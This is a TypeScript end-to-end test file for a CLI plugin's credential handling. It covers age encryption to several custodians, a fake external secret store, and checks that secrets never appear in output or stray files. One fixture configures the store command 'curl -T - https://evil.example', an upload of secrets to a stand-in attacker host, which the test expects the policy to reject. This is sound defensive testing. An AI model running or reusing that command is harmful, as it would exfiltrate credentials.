import { createPrivateKey, X509Certificate } from 'node:crypto';
import { mkdir, readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'chai';
import type { CreateResult } from '../../../src/core/model/create-result.ts';
import type { Proof } from '../../../src/core/model/proof.ts';
import { ageDecrypt, ageKeygen, noAge } from '../support/age.ts';
import { openAdmin, vaultFolder, type Admin } from '../support/admin.ts';
import { closeAfter } from '../support/close-after.ts';
import { expectProblem } from '../support/problem.ts';
import { noTerminal, onTerminal } from '../support/pseudo-terminal.ts';
import { everyFile, leaks, secretsOfPem, type SecretText } from '../support/secrets.ts';
import type { SfOptions } from '../support/sf.ts';
import { allowedHost, specFile } from '../support/spec.ts';

const fakeStore = join(import.meta.dirname, '../../edges/vault/fake-store.ts');
const custodians = ['bo@example.com', 'chi@example.com', 'dao@example.com'];
const of = (name: string): string[] => ['--name', name, '--target-org', 'admin'];
const create = (name: string): string[] => ['create', ...of(name), '--environment', 'practice', '--no-prompt', '--from-address', allowedHost];
const show = (name: string, part: string, ...more: string[]): string[] => ['credential', 'show', ...of(name), '--part', part, ...more];

/** `erp` is encrypted to its custodians with age; `dwh` goes to a command, a fake one, which gives it back. */
describe('Credentials in stores of the customer’s, by the plugin in the real sf, with age of Debian as witness,', () => {
  const opened = closeAfter();
  let admin: Admin;
  let identities: readonly string[];
  let store: string;
  const heard: Record<string, string> = {};

  before(async function () {
    const reason = await noAge();
    if (reason !== undefined) {
      if (process.env['IU_REQUIRE_E2E'] === '1') throw new Error(reason);
      process.stderr.write(`  skipped: ${reason}\n`);
      this.skip();
    }
    admin = await openAdmin(this, opened);
    store = join(admin.sf.home.dir, 'fake-store');
    await mkdir(store);
    identities = custodians.map((email) => join(admin.sf.home.dir, `${email}.txt`));
    const keys = await Promise.all(identities.map((file) => ageKeygen(file)));
    const put = `${process.execPath} ${fakeStore} keep ${store} {name}`;
    const read = `${process.execPath} ${fakeStore} give ${store} {name}`;
    const policy = { apiVersion: 'integration-user/v1', approved: { stores: ['age', put, read] }, custodianKeys: Object.fromEntries(custodians.map((email, index) => [email, keys[index]])) };
    await admin.write({
      ...specFile('erp', { credentials: { store: 'age' } }),
      ...specFile('dwh', { auth: { flow: 'client-credentials' }, credentials: { store: put, read } }),
      ...specFile('eve', { credentials: { store: 'curl -T - https://evil.example' } }),
      'integrations/policy.yaml': JSON.stringify(policy),
    });
  });

  const hear = async <Result>(line: string[], options: SfOptions = {}): Promise<Result> => {
    const outcome = await admin.json<Result>(line, options);
    heard[[...line, ...Object.keys(options.env ?? {})].join(' ')] = `${outcome.stdout}\n${outcome.stderr}`;
    return outcome.result;
  };
  const sealed = (): string => join(vaultFolder(admin, 'erp'), 'private-key.pem.age');
  const withIdentity = (): SfOptions => ({ env: { SF_INTEGRATION_USER_AGE_IDENTITY: identities[1] ?? '' } });

  it('are proven live in the run that makes them', async () => {
    const made = await Promise.all(['erp', 'dwh'].map((name) => hear<CreateResult>(create(name))));
    expect(made.map(({ proof }) => proof?.outcome)).to.deep.equal(['proven', 'proven']);
  });

  it('are opened by age itself, with the key of each custodian, and fit the certificate', async () => {
    const certificate = new X509Certificate(await readFile(join(vaultFolder(admin, 'erp'), 'certificate.pem')));
    for (const identity of identities) expect(certificate.checkPrivateKey(createPrivateKey(await ageDecrypt(identity, sealed())))).to.equal(true);
    const stranger = join(admin.sf.home.dir, 'stranger.txt');
    await ageKeygen(stranger);
    expect(await ageDecrypt(stranger, sealed()).catch((error: unknown) => String(error))).to.match(/no identity matched/);
  });

  it('are not tried where nothing opens them, and proven with a custodian’s identity', async () => {
    const verify = ['verify', ...of('erp'), '--from-address', allowedHost];
    const [without, opening] = await Promise.all([hear<{ proof: Proof }>(verify), hear<{ proof: Proof }>(verify, withIdentity())]);
    expect(without.proof.outcome).to.equal('proven except live login');
    expect(without.proof.rows.find(({ result }) => result === 'not-tried')?.came).to.match(/set SF_INTEGRATION_USER_AGE_IDENTITY/);
    expect(opening.proof.outcome).to.equal('proven');
  });

  it('are run by no command that the policy does not name', async () => {
    const before = (await admin.org.requests()).filter(({ changed }) => changed).length;
    expectProblem(await admin.json(create('eve')), { exit: 2, name: 'policy-broken', inside: ['policy-not-approved'], says: /the place for secrets "curl -T - https:\/\/evil\.example" is not approved/, next: /ask for an approval/ });
    expect((await admin.org.requests()).filter(({ changed }) => changed)).to.have.length(before);
  });

  it('go byte for byte into a pipe, and into a file for their owner alone', async () => {
    const key = await ageDecrypt(identities[0] ?? '', sealed());
    const file = join(admin.sf.home.dir, 'dwh-secret');
    const [piped, written] = await Promise.all([
      admin.text(show('erp', 'private-key'), withIdentity()),
      hear<{ value: null; file: string }>(show('dwh', 'consumer-secret', '--output-file', file)),
    ]);
    expect(piped.stdout).to.equal(key);
    expect(written).to.include({ value: null, file });
    expect(await readFile(file, 'utf8')).to.equal(await readFile(join(store, 'kept'), 'utf8'));
    if (process.platform !== 'win32') expect((await stat(file)).mode & 0o777).to.equal(0o600);
  });

  it('are never in --json, and on no screen', async function () {
    expect(await hear(show('erp', 'private-key'), withIdentity())).to.include({ value: null }).and.have.property('hint');
    const reason = noTerminal();
    if (reason !== undefined) {
      process.stderr.write(`  skipped: ${reason}\n`);
      this.skip();
    }
    const { exitCode, output } = await onTerminal(admin.command(show('erp', 'private-key'), withIdentity()), []);
    heard['on a terminal'] = output;
    expect(exitCode).to.equal(2);
    expect(output).to.match(/would be printed on the screen/).and.match(/--output-file FILE/);
  });

  it('are handed over by a sheet that has everything but them', async () => {
    const result = await hear<{ sheet: string }>(['credential', 'handover', ...of('dwh')]);
    const { sheet } = result;
    expect(sheet).to.include('- **Runs as:** `dwh.integration@example.com.practice`').and.include('- **Kind of org:** practice org');
    expect(JSON.stringify(result)).to.not.include('ana@example.com').and.not.include('bo@example.com').and.not.include('sf integration-user').and.not.include('.sf/');
  });

  it('are in nothing that was printed, and in no file but their own', async () => {
    const key = await ageDecrypt(identities[0] ?? '', sealed());
    const secret = await readFile(join(store, 'kept'), 'utf8');
    const consumerKeys = await Promise.all(['erp', 'dwh'].map(async (name) => (JSON.parse(await readFile(join(vaultFolder(admin, name), 'credential.json'), 'utf8')) as { consumerKey: string }).consumerKey));
    const secrets: SecretText[] = [...secretsOfPem('private key', key), { what: 'consumer secret', text: secret }, ...consumerKeys.map((text) => ({ what: 'consumer key', text }))];
    expect(Object.keys(heard)).to.have.length.at.least(7);
    expect(leaks(secrets, heard)).to.deep.equal([]);
    const files = Object.entries(await everyFile(admin.sf.home.dir)).filter(([path]) => !/^(?:fake-store|dwh-secret|.+credential\.json)/.test(path));
    expect(leaks(secrets, Object.fromEntries(files))).to.deep.equal([]);
  });
});
